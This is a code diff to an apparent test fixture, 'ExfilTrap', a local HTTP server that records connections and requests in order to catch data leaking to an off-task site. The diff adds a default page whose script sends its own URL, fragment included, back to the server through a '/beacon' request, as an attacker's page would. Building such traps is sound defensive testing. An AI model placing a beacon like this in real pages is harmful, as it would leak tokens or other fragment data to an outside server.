@@ -1,6 +1,15 @@
 import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 
+/**
+ * What the trap answers by default: a page whose script reports its own address, fragment
+ * included, back to the trap, as an attacker's page would (a fragment never reaches a server by
+ * itself, so data put there leaks only this way).
+ */
+const THANKS_PAGE =
+  '<!doctype html><html><head><title>Thanks</title></head><body><h1>Thanks</h1><p>Got it.</p>' +
+  "<script>if (location.hash) fetch('/beacon?u=' + encodeURIComponent(location.href));</script></body></html>";
+
 /** One request the trap received, as it arrived. */
 export interface TrapRequest {
   method: string;
@@ -21,7 +30,8 @@ export interface TrapHit {
  * IP host only the exact host:port is the same site, so it is outside any task that names the
  * fixture site). It counts TCP connections (the server's 'connection' event, so a connection that
  * never sends a request counts too) and records every request's method, URL, headers and body.
- * `pages` are served as HTML by path (the partner sign-in); every other path answers a small page.
+ * `pages` are served as HTML by path (the partner sign-in); every other path answers a small page
+ * that reports its own fragment back (`/beacon?u=…`).
  */
 export class ExfilTrap {
   connections = 0;
@@ -39,7 +49,7 @@ export class ExfilTrap {
         const request: TrapRequest = { method: req.method ?? '', url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') };
         this.requests.push(request);
         const path = new URL(request.url, 'http://trap.invalid').pathname;
-        const html = (request.method === 'GET' ? this.#pages.get(path) : undefined) ?? '<!doctype html><html><head><title>Thanks</title></head><body><h1>Thanks</h1><p>Got it.</p></body></html>';
+        const html = (request.method === 'GET' ? this.#pages.get(path) : undefined) ?? (path === '/beacon' ? '' : THANKS_PAGE);
         res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
         res.end(html);
       });
